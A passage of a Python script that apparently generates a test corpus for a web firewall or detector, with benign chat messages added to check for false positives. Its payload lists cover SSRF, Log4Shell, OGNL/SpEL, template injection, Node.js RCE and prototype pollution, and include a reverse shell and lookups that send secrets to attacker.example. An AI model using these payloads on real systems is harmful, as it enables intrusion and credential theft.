        "http://203.0.113.7/s.txt?x=",
        "http://attacker.example/shell.txt?.jpg",
        "https://attacker.example/includes/config.inc.txt?page=",
        "http://attacker.example/x.txt\x00",
    ],
    "rfi-ip-encoding": [
        "http://3405803783/shell.txt?",
        "http://0xcb007107/shell.txt?",
        "http://0313.0.0161.07/shell.txt?",
        "http://[::ffff:cb00:7107]/s.txt?",
        "http://203.0.28935/shell.txt?",
    ],
    "rfi-scheme": [
        "ftp://attacker.example/pub/shell.txt",
        "ftp://anonymous:x@attacker.example/s.php",
        "HtTp://attacker.example/s.txt?",
        "\\\\attacker.example\\share\\s.php",
        "//attacker.example/shell.txt?",
        "jar:http://attacker.example/a.jar!/shell.jsp",
    ],
    "rfi-at-confusion": [
        "https://trusted.example.com@attacker.example/shell.txt?",
        "http://attacker.example\\@trusted.example.com/s.txt?",
        "http://trusted.example.com#@attacker.example/shell.txt",
        "http://attacker.example/s.txt#@trusted.example.com/",
    ],
}

SSRF: dict[str, list[str]] = {
    "ssrf-ip-encoding": [
        "http://2130706433:6379/",
        "http://0x7f.1/",
        "http://0177.1/",
        "http://0x7f.0.0.01/",
        "http://0/",
        "http://[::ffff:127.0.0.1]:8080/",
        "http://[0:0:0:0:0:ffff:7f00:0001]/",
        "http://0x7f000001:2379/v2/keys/?recursive=true",
        "http://[0:0:0:0:0:0:0:1]:9200/_cat/indices",
        "http://\u2460\u2461\u2466.\u24ea.\u24ea.\u2460/",
        "http://127\u30020\u30020\u30021/",
    ],
    "ssrf-dns-internal": [
        "http://localtest.me:8080/admin",
        "http://127.0.0.1.nip.io/",
        "http://169.254.169.254.nip.io/latest/meta-data/",
        "http://admin.localhost:8080/",
        "http://kubernetes.default.svc.cluster.local/api/v1/namespaces/kube-system/secrets",
        "https://trusted.example.com.127.0.0.1.nip.io/",
    ],
    "ssrf-at-hash": [
        "http://trusted.example.com@127.0.0.1:8080/",
        "http://127.0.0.1#@trusted.example.com/",
        "http://127.0.0.1:80\\@trusted.example.com/",
        "http://trusted.example.com%40127.0.0.1/",
        "http://127.0.0.1%2523@trusted.example.com/",
    ],
    "ssrf-scheme": [
        "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A",
        "gopher://localhost:11211/_stats%0d%0a",
        "dict://127.0.0.1:6379/CONFIG%20SET%20dir%20/var/www/html",
        "file:///proc/self/environ",
        "jar:http://127.0.0.1:8080/x.jar!/a",
        "netdoc:///etc/passwd",
        "ldap://127.0.0.1:389/dc=corp",
    ],
    "ssrf-cloud-metadata": [
        "http://[::ffff:a9fe:a9fe]/latest/meta-data/",
        "http://2852039166/latest/meta-data/",
        "http://0xa9fea9fe/latest/meta-data/",
        "http://0251.0376.0251.0376/latest/meta-data/",
        "http://169.254.43518/latest/meta-data/",
        "http://[fd00:ec2::254]/latest/api/token",
        "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
        "http://100.100.100.200/latest/meta-data/",
        "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
    ],
}

JAVA: dict[str, list[str]] = {
    "java-log4shell-nesting": [
        "${jndi:ldap://attacker.example:1389/a}",
        "${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://attacker.example/a}",
        "${${upper:j}${upper:n}${upper:d}${upper:i}:rmi://attacker.example/a}",
        "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://attacker.example/a}",
        "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//attacker.example/a}",
        "${${sys:nonexistent:-j}${sys:nonexistent:-n}di:ldap://attacker.example/a}",
        "${j${${:-l}${:-o}${:-w}${:-e}${:-r}:n}di:ldap://attacker.example/a}",
        "${jndi:${lower:l}${lower:d}ap://attacker.example/a}",
        "${jndi:ldap://127.0.0.1#attacker.example:1389/a}",
        "${${k8s:k5:-J}${k8s:k5:-ND}i:ldap://attacker.example/a}",
        "${j${::-n}d${::-i}:l${::-d}ap://attacker.example/a}",
        "${${lower:${lower:jndi}}:${lower:ldap}://attacker.example/a}",
        Wire("%24%7Bjndi:ldap://attacker.example/a%7D"),
        "${JnDi:lDaP://attacker.example/a}",
        "${${::-$}{::-j}ndi:ldap://attacker.example/a}",
    ],
    "java-log4shell-exfil": [
        "${jndi:dns://attacker.example/${env:AWS_SECRET_ACCESS_KEY}}",
        "${jndi:ldap://${env:USER}.${sys:java.version}.attacker.example/a}",
        "${jndi:ldap://attacker.example/${env:AWS_SECRET_ACCESS_KEY}}",
        "${jndi:dns://${hostName}.${env:DB_PASSWORD:-x}.attacker.example/a}",
    ],
    "java-ognl": [
        "%{(#a=@java.lang.Runtime@getRuntime().exec('id'))}",
        "%{#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS,@java.lang.Runtime@getRuntime().exec('id')}",
        "${(#cmd='id').(#p=new java.lang.ProcessBuilder({'/bin/sh','-c',#cmd})).(#p.start())}",
        "%{(#ct=#context['com.opensymphony.xwork2.ActionContext.container']).(#ou=#ct.getInstance("
        "@com.opensymphony.xwork2.ognl.OgnlUtil@class)).(#ou.getExcludedClasses().clear())}",
        "%{@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec('id').getInputStream())}",
        "(#context['xwork.MethodAccessor.denyMethodExecution']=false)(#_memberAccess['allowStaticMethodAccess']=true)"
        "(@java.lang.Runtime@getRuntime().exec('id'))",
        "%{(#s=new java.util.Scanner((new java.lang.ProcessBuilder('whoami')).start().getInputStream())"
        ".useDelimiter('\\\\A')).(#s.next())}",
        "%{'a'+(#o=@java.lang.Runtime@getRuntime().exec(new java.lang.String(new byte[]{105,100})))}",
        "${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec(\"id\").getInputStream(),"
        "\"utf-8\")).(@com.opensymphony.webwork.ServletActionContext@getResponse().setHeader(\"X-Cmd\",#a))}",
    ],
    "java-el-spel": [
        "${T(java.lang.Runtime).getRuntime().exec('id')}",
        "#{T(java.lang.Runtime).getRuntime().exec(new String(new char[]{'i','d'}))}",
        "${T(java.lang.Class).forName('java.lang.Run'+'time').getMethod('getRu'+'ntime').invoke(null).exec('id')}",
        "*{T(org.springframework.util.StreamUtils).copyToString(T(java.lang.Runtime).getRuntime().exec('id')"
        ".getInputStream(),T(java.nio.charset.Charset).forName('UTF-8'))}",
        "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x",
        "${''.getClass().forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('js')"
        ".eval('java.lang.Runtime.getRuntime().exec(\"id\")')}",
        "${request.getClass().getClassLoader().loadClass('java.lang.Runtime')}",
        "#{''.getClass().forName('java.la'+'ng.Runt'+'ime').getMethods()[6].invoke(null).exec('id')}",
        "${T(java.lang.Runtime).getRuntime().exec(T(java.lang.Character).toString(105)"
        ".concat(T(java.lang.Character).toString(100)))}",
        "#{new java.lang.ProcessBuilder({'id'}).start()}",
        "${new javax.script.ScriptEngineManager().getEngineByName(\"nashorn\")"
        ".eval(\"new java.lang.ProcessBuilder('id').start()\")}",
        "class.module.classLoader.resources.context.parent.pipeline.first.pattern",
    ],
    "java-deser-marker": [
        _b64(_java_stream("java.util.PriorityQueue")),
        _java_stream("org.apache.commons.collections.functors.InvokerTransformer").hex(),
        _b64(gzip.compress(_java_stream("java.util.HashMap"), mtime=0)),
        "<java><object class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\" length=\"1\">"
        "<void index=\"0\"><string>id</string></void></array><void method=\"start\"/></object></java>",
        "<sorted-set><string>x</string><dynamic-proxy><interface>java.lang.Comparable</interface>"
        "<handler class=\"java.beans.EventHandler\"><target class=\"java.lang.ProcessBuilder\"><command>"
        "<string>id</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>",
        "[\"ch.qos.logback.core.db.JNDIConnectionSource\",{\"jndiLocation\":\"ldap://attacker.example/a\"}]",
        "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://attacker.example/a\","
        "\"autoCommit\":true}",
        "{\"\\u0040type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://attacker.example/a\","
        "\"autoCommit\":true}",
        "yv66vgAAADQAHgoABgARCgASABMIABQKABIAFQcAFgcAFwEABjxpbml0PgEAAygpVgEABENvZGUBAA9MaW5lTnVtYmVy",
        "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL "
        "[\"http://attacker.example/x.jar\"]]]]",
    ],
}

NODE: dict[str, list[str]] = {
    "node-constructor": [
        "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')",
        "''['constructor']['constructor']('return this')().process.mainModule.require('child_process')"
        ".execSync('id')",
        "new Function('return process')().mainModule.require('fs').readFileSync('/etc/passwd','utf8')",
        "(function(){return this})().process.mainModule.require('child_process').exec('id')",
        "Object.constructor.prototype.constructor('return process')().exit()",
        "(async()=>{}).constructor('return process')().then(p=>p.mainModule.require('child_process'))",
    ],
    "node-require": [
        "require('child_process').execSync('cat /etc/passwd').toString()",
        "require('child_'+'process')['ex'+'ecSync']('id')",
        "process.mainModule.require('child_process').spawnSync('sh',['-c','id']).stdout.toString()",
        "global.process.mainModule.constructor._load('child_process').execFileSync('id')",
        "process.binding('spawn_sync').spawn({file:'/bin/sh',args:['sh','-c','id'],stdio:[{type:'pipe',"
        "readable:1}]})",
        "require(String.fromCharCode(99,104,105,108,100,95,112,114,111,99,101,115,115)).exec('id')",
        "require(Buffer.from('Y2hpbGRfcHJvY2Vzcw==','base64').toString()).exec('id')",
        "require('\\x63hild_process').exec('id')",
        "eval(\"require('child_process').exec('id')\")",
        "Reflect.get(process,'mainModule').require('child_process').exec('id')",
        "process['main'+'Module']['req'+'uire']('child'+'_process')['exec']('id')",
        "import('child_process').then(c=>c.execSync('id'))",
        "require('fs').writeFileSync('/tmp/x.js','require(\"child_process\").exec(\"id\")')",
        "require('net').connect(4444,'203.0.113.5',function(){this.pipe(require('child_process')"
        ".spawn('/bin/sh').stdin)})",
        "require('vm').runInThisContext('process.mainModule.require(\"child_process\").exec(\"id\")')",
        "require('child_process').exec('curl attacker.example/$(id|base64)')",
    ],
    "node-serialize": [
        "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}",
        "_$$ND_FUNC$$_function (){ return require('child_process').execSync('id') }()",
    ],
}

SSTI: dict[str, list[str]] = {
    "ssti-python": [
        "{{self.__init__.__globals__.__builtins__.__import__('os').popen('id').read()}}",
        "{{cycler.__init__.__globals__.os.popen('id').read()}}",
        "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')"
        "('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')"
        "|attr('popen')('id')|attr('read')()}}",
        "{{''.__class__.__mro__[1].__subclasses__()}}",
        "{{lipsum.__globals__['os'].popen('id').read()}}",
        "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}"
        "{{x()._module.__builtins__['__import__']('os').popen('id').read()}}{% endif %}{% endfor %}",
        "{%print(namespace.__init__.__globals__.os.popen('id').read())%}",
        "<%import os%>${os.popen('id').read()}",
        "{% import os %}{{os.popen('id').read()}}",
    ],
    "ssti-php": [
        "{{['id']|filter('system')}}",
        "{{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('id')}}",
        "{{['id',1]|sort('passthru')}}",
        "{{['cat /etc/passwd']|map('system')|join}}",
        "{system('id')}",
        "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['c']); ?>\",self::clearConfig())}",
    ],
    "ssti-java": [
        "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
        "${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
        "#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null)"
        ".invoke(null,null).exec(\"id\")",
        "#set($x=$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\"))",
        "{{ variable.getClass().forName('java.lang.Runtime').getRuntime().exec('id') }}",
    ],
    "ssti-js": [
        "{{#with \"s\" as |string|}}{{#with split as |conslist|}}{{this.push (lookup string.sub \"constructor\")}}"
        "{{#each conslist}}{{#with (string.sub.apply 0 \"return process.mainModule.require('child_process')"
        ".execSync('id')\")}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}",
        "<%= global.process.mainModule.require('child_process').execSync('id') %>",
        "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad('child_process')"
        ".exec('id')}()}",
        "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
        "${process.mainModule.require('child_process').execSync('id')}",
    ],
    "ssti-ruby-dotnet": [
        "<%= `id` %>",
        "<%= system('id') %>",
        "<%= IO.popen('id').readlines() %>",
        "#{`id`}",
        "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")",
    ],
}

# prototype pollution: query-string forms (sent as written) and JSON documents
POLLUTION_QS = [
    "__proto__[isAdmin]=true",
    "__proto__.isAdmin=true",
    "constructor[prototype][isAdmin]=true",
    "constructor.prototype.isAdmin=true",
    "user[__proto__][role]=admin",
    "a[constructor][prototype][shell]=/proc/self/exe",
    "__proto__[env][EVIL]=console.log(require('child_process').execSync('id').toString())//"
    "&__proto__[NODE_OPTIONS]=--require /proc/self/environ",
    "__pro__proto__to__[admin]=1",
    "__proto__%5Badmin%5D=1",
    "%5F%5Fproto%5F%5F[admin]=1",
    "__proto__[allowedTags]=script",
    "__proto__[sourceURL]=%E2%80%A8%E2%80%A9alert(1)",
    "__proto__[block][type]=Text&__proto__[block][line]=process.mainModule.require('child_process').execSync('id')",
    "__proto__[outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');//",
    "__proto__[escapeFunction]=1;return process.mainModule.require('child_process').execSync('id')"
    "&__proto__[client]=1",
    "__proto__[shell]=node&__proto__[NODE_OPTIONS]=--inspect=attacker.example:4444",
    "constructor[prototype][polluted]=1&constructor[prototype][isAdmin]=1",
    "__proto__[json spaces]=10",
]
POLLUTION_JSON: list[Any] = [
    {"__proto__": {"isAdmin": True}},
    {"constructor": {"prototype": {"isAdmin": True}}},
    {"user": {"__proto__": {"role": "admin"}}},
    {"__proto__": {"outputFunctionName": "x;process.mainModule.require('child_process').execSync('id');//"}},
    {"__proto__": {"shell": "/proc/self/exe",
                   "argv0": "console.log(require('child_process').execSync('id').toString())//",
                   "NODE_OPTIONS": "--require /proc/self/cmdline"}},
    {"__proto__": {"json spaces": " "}},
    {"a": {"constructor": {"prototype": {"polluted": "yes"}}}},
    {"__proto__": {"allowedTags": ["img"], "allowedAttributes": {"img": ["onerror", "src"]}}},
    {"__proto__": {"sourceURL": "\u2028\u2029return process.mainModule.require('child_process').execSync('id')//"}},
    {"__proto__": {"block": {"type": "Text", "line": "process.mainModule.require('child_process').execSync('id')"}}},
    {"settings": {"__proto__": {"view options": {"client": True, "escapeFunction":
                                                 "1;return global.process.mainModule.require('child_process')"
                                                 ".execSync('id')"}}}},
    {"name": "ann", "constructor": {"prototype": {"role": "admin"}}},
]

FAMILIES: list[tuple[str, dict[str, list[str]], list[str]]] = [
    ("sqli", SQLI, ["id", "q", "user", "sort", "filter", "email", "search", "order"]),
    ("xss", XSS, ["q", "name", "comment", "bio", "message", "title", "redirect", "display_name"]),
    ("rce", RCE, ["host", "ip", "cmd", "file", "domain", "target", "filename", "ping"]),
    ("php", PHP, ["code", "data", "page", "template", "lang", "input", "callback", "prefs"]),
    ("lfi", LFI, ["file", "path", "page", "template", "doc", "include", "lang", "download"]),
    ("rfi", RFI, ["page", "include", "url", "template", "module", "theme"]),
    ("generic", SSRF, ["url", "webhook", "callback", "avatar_url", "feed", "image", "proxy", "link"]),
    ("java", JAVA, ["q", "name", "lang", "redirect", "expr", "data", "x-trace", "search"]),
    ("generic", NODE, ["q", "data", "code", "expr", "name", "filter"]),
    ("generic", SSTI, ["q", "template", "name", "greeting", "subject", "message"]),
]

PLACES = ["query", "form", "json", "cookie", "header:User-Agent", "multipart-field", "json-unicode",
          "header:Referer", "path", "xml", "hpp", "header:X-Forwarded-For", "param-name", "multipart-filename",
          "text-plain", "json-charset", "multipart-odd-boundary", "header:X-Custom"]
WIRE_PLACES = {"query", "form", "path", "cookie", "param-name", "header:Referer", "hpp"}
CUSTOM_HEADERS = ["X-Api-Version", "X-Client-Note", "X-Original-Query", "X-Requested-By"]
QUERY_PATHS = ["/api/users", "/admin/users/search", "/api/users/42", "/api/users", "/search",
               "/admin/users/search", "/api/users", "/index.php", "/api/users/42", "/"]
FORM_PATHS = ["/admin/users/search", "/oauth/token", "/api/users", "/admin/users/search", "/index.php"]
PATH_PREFIXES = ["/api/users/", "/admin/users/", "/api/users/42/", "/search/", "/"]
ODD_BOUNDARIES = [
    ('multipart/form-data; boundary="a b(c)=d?"', "a b(c)=d?"),
    ("multipart/form-data; charset=utf-8; boundary=----=_Part_12_345.678", "----=_Part_12_345.678"),
    ("Multipart/Form-Data; BOUNDARY=" + "x" * 70, "x" * 70),
    ("multipart/form-data;boundary=-", "-"),
    ('multipart/form-data; boundary=":-)+,./"', ":-)+,./"),
    ("multipart/form-data; boundary=0", "0"),
]
BOUNDARY = "----WebKitFormBoundary7MA4YWxkTrZu0gW"


def _quote(value: str, n: int) -> str:
    """URL-encode a value fully, or (every third request) lightly, the way a browser's address bar does."""
    if n % 3 == 2:
        return urllib.parse.quote(value, safe="/:'(),*!$@~")
    return urllib.parse.quote(value, safe="")


def _wire(value: str) -> str:
    """An already-encoded payload as sent: only what would break the request line or the parameter is encoded."""
    return urllib.parse.quote(value, safe="%/:'()*+,;!$@~")


def _value(value: str, n: int) -> str:
    return _wire(value) if isinstance(value, Wire) else _quote(value, n)


def _path_value(value: str, n: int) -> str:
    return _wire(value) if isinstance(value, Wire) else urllib.parse.quote(value, safe="" if n % 2 else "'(),*:@")


def _headers(extra: dict[str, str] | None = None) -> dict[str, str]:
    return {"User-Agent": UA, "Accept": "application/json", **(extra or {})}


def _dot_segments(text: str) -> bool:
    """Whether nginx would resolve a dot segment in this path text (it would answer 400 above the root)."""
    text = text.replace("\\", "/")
    return "/../" in f"/{text}/" or "/./" in f"/{text}/"


def _json_unicode(value: str, n: int) -> str:
    """A JSON string literal with punctuation, spaces and every third letter written as \\u00xx escapes."""
    out = []
    for i, ch in enumerate(value):
        if ch.isascii() and ch.isalnum() and (i + n) % 3:
            out.append(ch)
        elif ord(ch) > 0xFFFF:
            out.append(json.dumps(ch)[1:-1])
        else:
            out.append(f"\\u{ord(ch):04x}")
    return '"' + "".join(out) + '"'


def _multipart(fields: list[tuple[str, str]], file: tuple[str, str, str] | None, boundary: str,
               loose: bool = False) -> str:
    """A multipart body; `loose` writes the part headers without spaces and with unquoted names."""
    parts = []
    for name, value in fields:
        disp = (f"content-disposition:form-data;name={name}" if loose
                else f'Content-Disposition: form-data; name="{name}"')
        parts.append(f"--{boundary}\r\n{disp}\r\n\r\n{value}\r\n")
    if file:
        name, filename, content = file
        fname = filename.replace("\\", "\\\\").replace('"', '\\"')
        parts.append(f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"; filename="{fname}"\r\n'
                     f"Content-Type: image/png\r\n\r\n{content}\r\n")
    return "".join(parts) + f"--{boundary}--\r\n"


def _split(value: str) -> tuple[str, str]:
    """The payload cut in two near its middle, at a space or punctuation where there is one."""
    mid = len(value) // 2
    for d in range(len(value) // 2):
        for k in (mid - d, mid + d):
            if 0 < k < len(value) and value[k] in " /,;(|&":
                return value[:k], value[k:]
    return value[:mid], value[mid:]


def _build(place: str, name: str, value: str, n: int) -> tuple[dict[str, Any], str]:
    """The request carrying `value` in `place` (the n-th of the set), and its placement label."""
    v = _value(value, n)
    if place == "query":
        path = QUERY_PATHS[n % len(QUERY_PATHS)]
        pre = "csrf_token=t0k3n&" if path.startswith("/admin/") else ""
        return _get(f"{path}?{pre}{name}={v}&page=1"), place
    if place == "form":
        path = FORM_PATHS[n % len(FORM_PATHS)]
        lead = {"/admin/users/search": "csrf_token=t0k3n&", "/oauth/token": "grant_type=authorization_code&"}
        rec = _form(path, [])
        return {**rec, "body": f"{lead.get(path, '')}{name}={v}"}, place
    if place in ("json", "json-charset"):
        if place == "json":
            return _json("/api/users", {"email": "a@example.org", name: value}), place
        ctype = ["application/json; charset=utf-8", "application/json;charset=UTF-8",
                 'application/json; charset="utf-8"'][n % 3]
        body = json.dumps({"user": {"id": 42, "profile": {name: value}}}, ensure_ascii=n % 2 == 0)
        return {"method": "PUT", "uri": "/api/users/42", "body": body,
                "headers": _headers({"Content-Type": ctype})}, place
    if place == "json-unicode":
        body = '{"email":"a@example.org","' + name + '":' + _json_unicode(value, n) + "}"
        return {"method": "POST", "uri": "/api/users", "body": body,
                "headers": _headers({"Content-Type": "application/json"})}, place
    if place == "cookie":
        cv = urllib.parse.quote(value, safe="%/:'()*+!$@~" if isinstance(value, Wire) else "")
        return {**_get("/api/users?page=1"), "headers": _headers({"Cookie": f"session=abc123; {name}={cv}"})}, place
    if place == "header:User-Agent":
        return {**_get("/api/users?page=1"), "headers": {"User-Agent": value, "Accept": "application/json"}}, place
    if place == "header:Referer":
        ref = ("https://www.example.com/search?q=" + v) if isinstance(value, Wire) or n % 2 else value
        return {**_get("/admin/users/search?csrf_token=t0k3n&q=ann"), "headers": _headers({"Referer": ref})}, place
    if place == "header:X-Forwarded-For":
        xff = value if n % 2 else "198.51.100.7, " + value
        return {**_get("/api/users?page=1"), "headers": _headers({"X-Forwarded-For": xff})}, place
    if place == "header:X-Custom":
        h = CUSTOM_HEADERS[n % len(CUSTOM_HEADERS)]
        return {**_get("/api/users/42"), "headers": _headers({h: value})}, f"header:{h}"
    if place in ("multipart-field", "multipart-filename", "multipart-odd-boundary"):
        uri = "/admin/users/search" if n % 2 else "/api/users/42/avatar"
        fields = [("csrf_token", "t0k3n")] if uri.startswith("/admin/") else [("note", "profile picture")]
        if place == "multipart-filename":
            body = _multipart(fields, ("avatar", value, "\x89PNG fake"), BOUNDARY)
            ctype = f"multipart/form-data; boundary={BOUNDARY}"
        elif place == "multipart-field":
            body = _multipart([*fields, (name, value)], None, BOUNDARY)
            ctype = f"multipart/form-data; boundary={BOUNDARY}"
        else:
            ctype, boundary = ODD_BOUNDARIES[n % len(ODD_BOUNDARIES)]
            body = _multipart([*fields, (name, value)], None, boundary, loose=n % 2 == 0)
        return {"method": "POST", "uri": uri, "body": body,
                "headers": {"User-Agent": UA, "Accept": "text/html", "Content-Type": ctype}}, place
    if place == "xml":
        inner = f"<![CDATA[{value}]]>" if n % 2 and "]]>" not in value else xml_escape(value)
        tag = name.replace("-", "_")
        body = (f'<?xml version="1.0" encoding="UTF-8"?>\n<user><email>a@example.org</email><{tag}>{inner}</{tag}>'
                "</user>")
        ctype = "application/xml" if n % 2 else "text/xml; charset=utf-8"
        return {"method": "POST", "uri": "/api/users", "body": body,
                "headers": _headers({"Content-Type": ctype})}, place
    if place == "path":
        prefix = PATH_PREFIXES[n % len(PATH_PREFIXES)]
        return _get(prefix + _path_value(value, n)), place
    if place == "param-name":
        return _get(f"/api/users?{v}=1&page=1"), place
    if place == "hpp":
        a, b = _split(value)
        qa, qb = (_wire(a), _wire(b)) if isinstance(value, Wire) else (_quote(a, n), _quote(b, n))
        if n % 2:
            return _get(f"/api/users?{name}={qa}&page=1&{name}={qb}"), place
        rec = _form("/admin/users/search", [])
        return {**rec, "body": f"csrf_token=t0k3n&{name}={qa}&{name}={qb}"}, place
    if place == "text-plain":
        body = f"csrf_token=t0k3n\r\n{name}={value}\r\n"
        ctype = "text/plain" if n % 2 else "text/plain;charset=UTF-8"
        return {"method": "POST", "uri": "/admin/users/search", "body": body,
                "headers": {"User-Agent": UA, "Accept": "text/html", "Content-Type": ctype}}, place
    raise ValueError(place)


def _fits(place: str, value: str) -> bool:
    """Whether `value` can travel in `place` as a real request would carry it."""
    if isinstance(value, Wire):
        if place not in WIRE_PLACES:
            return False
        return not (place == "path" and _dot_segments(urllib.parse.unquote(value)))
    breaks = any(c in value for c in "\r\n\x00")
    if place.startswith("header:") or place in ("multipart-filename", "text-plain"):
        return not breaks and value == value.strip()
    if place == "path":
        return "\x00" not in value and not _dot_segments(value)
    if place == "xml":
        return not any(ord(c) < 0x20 and c not in "\t\r\n" for c in value)
    if place == "hpp":
        return len(value) >= 8
    return True


def _two_places(i: int, value: str, offset: int) -> list[str]:
    """Two placements of PLACES for the i-th payload, rotating, skipping those it cannot travel in."""
    out: list[str] = []
    k = 2 * i + offset
    while len(out) < 2:
        place = PLACES[k % len(PLACES)]
        if place not in out and _fits(place, value):
            out.append(place)
        k += 1
    return out


def _pollution_qs(qs: str, place: str, n: int) -> dict[str, Any]:
    if place == "param-name":
        path = ["/api/users", "/api/users/42", "/admin/users/search", "/search"][n % 4]
        pre = "csrf_token=t0k3n&" if path.startswith("/admin/") else ""
        return _get(f"{path}?{pre}{qs.replace(' ', '%20')}&page=1")
    if place == "form":
        rec = _form("/api/users" if n % 2 else "/admin/users/search", [])
        return {**rec, "body": ("" if n % 2 else "csrf_token=t0k3n&") + qs.replace(" ", "+")}
    fields = [("csrf_token", "t0k3n")]
    for pair in qs.split("&"):
        key, _, val = urllib.parse.unquote(pair).partition("=")
        fields.append((key, val))
    body = _multipart(fields, None, BOUNDARY)
    return {"method": "POST", "uri": "/admin/users/search", "body": body,
            "headers": {"User-Agent": UA, "Accept": "text/html",
                        "Content-Type": f"multipart/form-data; boundary={BOUNDARY}"}}


def _pollution_json(doc: Any, place: str, n: int) -> dict[str, Any]:
    if place == "json":
        return _json("/api/users" if n % 2 else "/api/users/42", doc)
    body = json.dumps(doc)
    if place == "json-unicode":
        body = (body.replace('"__proto__"', '"\\u005f\\u005fproto\\u005f\\u005f"')
                .replace('"constructor"', '"constr\\u0075ctor"').replace('"prototype"', '"prot\\u006ftype"'))
        return {"method": "POST", "uri": "/api/users", "body": body,
                "headers": _headers({"Content-Type": "application/json"})}
    return {"method": "PATCH", "uri": "/api/users/42", "body": body,
            "headers": _headers({"Content-Type": "application/json; charset=utf-8"})}


def attacks() -> Iterator[dict[str, Any]]:
    n = 0
    for offset, (category, subs, names) in enumerate(FAMILIES):
        i = 0
        for sub, payloads in subs.items():
            for p in payloads:
                for place in _two_places(i, p, offset):
                    n += 1
                    rec, label = _build(place, names[(i + n) % len(names)], p, n)
                    yield {**rec, "id": f"{NAME}-{category}-{n:04d}", "category": category, "sub": sub,
                           "placement": label, "payload": str(p)}
                i += 1
    qs_places = [("param-name", "form"), ("form", "multipart-field"), ("multipart-field", "param-name")]
    for i, qs in enumerate(POLLUTION_QS):
        for place in qs_places[i % 3]:
            n += 1
            yield {**_pollution_qs(qs, place, n), "id": f"{NAME}-generic-{n:04d}", "category": "generic",
                   "sub": "proto-pollution", "placement": place, "payload": qs}
    json_places = [("json", "json-unicode"), ("json-unicode", "json-charset"), ("json-charset", "json")]
    for i, doc in enumerate(POLLUTION_JSON):
        for place in json_places[i % 3]:
            n += 1
            yield {**_pollution_json(doc, place, n), "id": f"{NAME}-generic-{n:04d}", "category": "generic",
                   "sub": "proto-pollution", "placement": place, "payload": json.dumps(doc)}


# ---------------------------------------------------------------------------------------------------------------
# Benign: the same words and punctuation, used innocently.

SLACK_TEXTS = [
    # databases
    "can someone review my PR? it changes the select on the orders table to use an index",
    "the union of both lists is what marketing wants, not the intersection",
    "quick q: should the report select from users where active = 1 or use the view?",
    "`SELECT id, name FROM users ORDER BY created_at DESC LIMIT 50` is slow on prod, any ideas?",
    "I'll drop the staging table after the migration, it's a copy anyway",
    "the insert into audit_log happens in a trigger, not in the app",
    "don't forget: update the on-call sheet and delete your old calendar holds",
    "we use pg_sleep in the integration tests to simulate a slow DB, that's why CI takes 8 min",
    "O'Reilly and O'Neil both broke the name search because of the apostrophe, fixed now",
    "the query uses LIKE 'abc%' so the index still works",
    "order by 2 desc is lazy SQL, please name the column",
    "1=1 in the WHERE clause is a leftover from the query builder, harmless but ugly",
    "json_extract on the settings column is fine for now, we'll move it to a real column later",
    "mysql 8 has JSON_TABLE now, makes the export query much nicer",
    "`--` starts a comment in SQL, `#` only in MySQL, that's why the linter complained",
    "group_concat truncates at 1024 chars by default, bump group_concat_max_len",
    "char(10) is a newline in the CSV export, that's why rows split",
    "between 9 and 5 I'm in meetings, or ping me after",
    "the `users` table and `orders` table both need the new tenant_id column",
    "we should benchmark the new substring() approach vs regexp",
    "hex(uuid) vs binary(16) for primary keys, thoughts?",
    "the select box on the signup page doesn't open on iOS",
    "prepared statements everywhere please, no string concatenation for SQL",
    "the postgres jsonb @> operator made the tag filter 10x faster",
    "waitfor delay in the old MSSQL job is gone, we use the scheduler now",
    "the sleep(2) in the retry loop should be exponential backoff",
    "union all is faster than union because it skips the dedupe",
    "mid-sprint check-in: 3 of 5 stories done, 1 blocked on the DBA",
    "the DBA says the new index on (tenant_id, created_at) is live",
    "information_schema queries are slow on the big cluster, cache them",
    # html and js
    "the <script> tag in the marketing page loads the analytics snippet async",
    "use `<img loading=\"lazy\">` for the avatars, saves a lot on mobile",
    "the onload handler on the iframe fires twice in Safari",
    "svg icons should be inline, not <img src=icon.svg>, so we can color them",
    "alert() in the admin console is ugly, let's use the toast component",
    "the details/summary element is great for the FAQ, no JS needed",
    "<3 thanks for the quick fix!",
    "she said \"onerror we just show a placeholder\" and that's what we shipped",
    "javascript: links are blocked by our CSP, use buttons",
    "document.cookie is httpOnly for the session, so the SPA can't read it, as intended",
